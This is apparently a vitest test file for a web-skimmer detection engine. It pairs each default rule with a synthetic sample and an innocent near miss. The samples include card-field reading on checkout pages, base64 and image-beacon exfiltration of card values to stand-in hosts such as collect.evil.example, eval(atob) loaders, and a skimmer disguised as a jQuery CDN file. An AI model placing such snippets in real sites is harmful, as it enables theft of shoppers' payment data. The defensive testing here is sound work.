// Every default rule hits a sample written for it and misses a near miss (the same idea, innocent).
// The samples are synthetic, written for these tests.
import { describe, expect, it } from 'vitest';
import { defaultRules } from './rules.defaults.js';
import { compileRule, type RuleSubject } from './rules.engine.js';
import { ruleSetOf } from './rules.match.js';

const script = (content: string, more: Partial<RuleSubject> = {}): RuleSubject => ({
  content,
  url: 'https://shop.example/app.js',
  destinations: [],
  behaviours: [],
  ...more,
});

const cases: Record<string, { hit: RuleSubject; miss: RuleSubject }> = {
  'VGL-TYPO-001': {
    hit: script('', { url: 'https://www.google-analytlcs.com/analytics.js' }),
    miss: script('', { url: 'https://www.google-analytics.com/analytics.js' }),
  },
  'VGL-TYPO-002': {
    hit: script('', { destinations: ['https://cdn.example/x', 'https://jquery-cdn.com/collect'] }),
    miss: script('', { destinations: ['https://code.jquery.com/jquery.min.js', 'https://king.com/'] }),
  },
  'VGL-SKIM-001': {
    hit: script(
      'if (/checkout|onepage/.test(location.href)) { var f = document.querySelector(\'[autocomplete="cc-number"]\'); }',
    ),
    miss: script('if (window.location.href.indexOf("onepage") > -1) { trackStep(3); }'),
  },
  'VGL-SKIM-002': {
    hit: script('var n = document.querySelector("#cc-number").value;', { behaviours: ['sends_data_elsewhere'] }),
    miss: script('var n = document.querySelector("#cc-number").value;', { behaviours: ['sends_data'] }),
  },
  'VGL-SKIM-003': {
    hit: script('', { behaviours: ['reads_card_fields', 'sends_data', 'sends_data_elsewhere'] }),
    miss: script('', { behaviours: ['reads_card_fields', 'sends_data'] }),
  },
  'VGL-SKIM-004': {
    hit: script(
      'form.addEventListener("submit", function () { var d = inp.value; navigator.sendBeacon("https://x.example/c", d); });',
      { behaviours: ['sends_data', 'sends_data_elsewhere'] },
    ),
    miss: script('form.addEventListener("submit", function () { var d = inp.value; fetch("/api/pay", d); });', {
      behaviours: ['sends_data'],
    }),
  },
  'VGL-SKIM-005': {
    hit: script('localStorage.setItem("cc_num", field.value);'),
    miss: script('localStorage.setItem("theme", "dark");'),
  },
  'VGL-SKIM-006': {
    hit: script('', { behaviours: ['reads_personal_fields', 'sends_data_elsewhere'] }),
    miss: script('', { behaviours: ['reads_personal_fields', 'sends_data'] }),
  },
  'VGL-EXFIL-001': {
    hit: script('var p = btoa(JSON.stringify(data)); fetch("https://x.example/c?d=" + p);'),
    miss: script('var p = btoa(JSON.stringify(data)); console.log(p);'),
  },
  'VGL-EXFIL-002': {
    hit: script('var i = new Image(); i.src = "https://x.example/p.gif?c=" + card.value;'),
    miss: script('var i = new Image(); i.src = "/pixel.gif";'),
  },
  'VGL-EXFIL-003': {
    hit: script('', { destinations: ['https://203.0.113.9/gate.php'] }),
    miss: script('', { destinations: ['https://203.0.113.9.example/gate.php'] }),
  },
  'VGL-OBF-001': {
    hit: script('var h = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108);'),
    miss: script('var s = String.fromCharCode(72, 105);'),
  },
  'VGL-OBF-002': {
    hit: script('eval(atob("YWxlcnQoMSk="));'),
    miss: script('var text = atob("aGVsbG8="); render(text);'),
  },
  'VGL-OBF-003': {
    hit: script(`var s = "${'\\x61'.repeat(45)}";`),
    miss: script(`var s = "${'\\x61'.repeat(10)}";`),
  },
  'VGL-ANTI-001': {
    hit: script('if (window.outerWidth - window.innerWidth > 160) { stop(); }'),
    miss: script('var w = window.outerWidth; var i = window.innerWidth;'),
  },
  'VGL-HIDE-001': {
    hit: script('el.innerHTML = \'<svg width="1" height="1" onload="eval(atob(this.id))"></svg>\';'),
    miss: script('el.innerHTML = \'<svg width="16" height="16"><path d="M0 0h16v16H0z"/></svg>\';'),
  },
  'VGL-HIDE-002': {
    hit: script('var v = getComputedStyle(document.body).getPropertyValue("--sync"); eval(atob(v));'),
    miss: script('var v = getComputedStyle(document.body).getPropertyValue("--brand-color"); el.style.color = v;'),
  },
  'VGL-HIDE-003': {
    hit: script('var ws = new WebSocket("wss://x.example/s"); ws.onmessage = function (m) { eval(m.data); };'),
    miss: script('var ws = new WebSocket("wss://x.example/s"); ws.onmessage = function (m) { show(m.data); };'),
  },
  'VGL-HIDE-004': {
    hit: script('var c = document.querySelector("#cvv");', {
      url: 'https://www.googletagmanager.com/gtm.js?id=GTM-ABC123',
    }),
    miss: script('dataLayer.push({event: "view"});', { url: 'https://www.googletagmanager.com/gtm.js?id=GTM-ABC123' }),
  },
  'VGL-LOAD-001': {
    hit: script('var s = document.createElement("script"); s.src = atob("aHR0cHM6Ly94LmV4YW1wbGUvcy5qcw==");'),
    miss: script('var s = document.createElement("script"); s.src = "https://cdn.example/s.js";'),
  },
};

describe('the default rules', () => {
  it('are 15 to 20, each with a unique key, a family, a public reference and a case here', () => {
    expect(defaultRules.length).toBeGreaterThanOrEqual(15);
    expect(defaultRules.length).toBeLessThanOrEqual(20);
    expect(new Set(defaultRules.map((r) => r.key)).size).toBe(defaultRules.length);
    for (const rule of defaultRules) {
      expect(rule.reference, rule.key).toMatch(/^https:\/\//);
      expect(rule.family, rule.key).not.toBe('');
      expect(Object.keys(cases), rule.key).toContain(rule.key);
    }
  });

  for (const rule of defaultRules) {
    it(`${rule.key} hits its sample and misses the near miss`, () => {
      const compiled = compileRule(rule.definition);
      const { hit, miss } = cases[rule.key] ?? { hit: script(''), miss: script('') };
      const found = compiled.match(hit);
      expect(found, `${rule.key} should hit`).not.toBeNull();
      expect(found?.matched.length).toBeGreaterThan(0);
      expect(found?.excerpt.length).toBeLessThanOrEqual(200);
      expect(compiled.match(miss), `${rule.key} should miss`).toBeNull();
    });
  }
});

describe('the default set on a page', () => {
  const rules = ruleSetOf(
    defaultRules.map((r, i) => ({
      rule: {
        id: i + 1,
        key: r.key,
        name: r.name,
        family: r.family,
        severity: r.severity,
        version: 1,
        reference: null,
      },
      compiled: compileRule(r.definition),
    })),
  );
  const external = (url: string, content: string, reads: ('card' | 'personal')[] = []) => ({
    key: url,
    kind: 'external' as const,
    url,
    host: new URL(url).hostname,
    party: 'third' as const,
    loadedBy: null,
    sha256: '0'.repeat(64),
    sri: false,
    size: content.length,
    content,
    reads,
  });
  const send = (initiator: string, url: string, kind: 'fetch' | 'beacon' | 'image' = 'fetch') => ({
    initiator,
    host: new URL(url).hostname,
    url,
    kind,
  });

  it('flags a skimmer disguised as a CDN library, and not the store’s own checkout code', () => {
    const skimmer = external(
      'https://cdn.jquery-static.example/jquery-3.7.1.min.js',
      `if (!/checkout|payment|onepage/.test(location.href)) return;
       var card = document.querySelector('[autocomplete="cc-number"]');
       var data = btoa(card.value); fetch(sink + '/c', { body: data });`,
      ['card'],
    );
    const skimmerHits = rules
      .match(skimmer, [send(skimmer.key, 'https://collect.evil.example/c')])
      .map((h) => h.rule.key);
    expect(skimmerHits).toEqual(
      expect.arrayContaining(['VGL-TYPO-001', 'VGL-SKIM-001', 'VGL-SKIM-002', 'VGL-SKIM-003', 'VGL-EXFIL-001']),
    );
    const checkout = {
      ...external(
        'https://www.shop.example/app.js',
        `form.addEventListener('submit', function () {
           var number = document.getElementById('cc-number').value;
           fetch('/api/pay', { method: 'POST', body: JSON.stringify({ n: number.length }) });
         });`,
        ['card'],
      ),
      party: 'first' as const,
    };
    expect(rules.match(checkout, [send(checkout.key, 'https://api.shop.example/pay')])).toEqual([]);
    const inline = { ...checkout, key: 'inline:1', kind: 'inline' as const, url: null, host: null };
    const toStore = [send('inline:1', 'https://www.shop.example/api/pay')];
    expect(rules.match(inline, toStore, 'https://www.shop.example/checkout')).toEqual([]);
    const toEvil = [send('inline:1', 'https://collect.evil.example/c', 'image')];
    expect(rules.match(inline, toEvil, 'https://www.shop.example/checkout').map((h) => h.rule.key)).toContain(
      'VGL-SKIM-003',
    );
  });
});
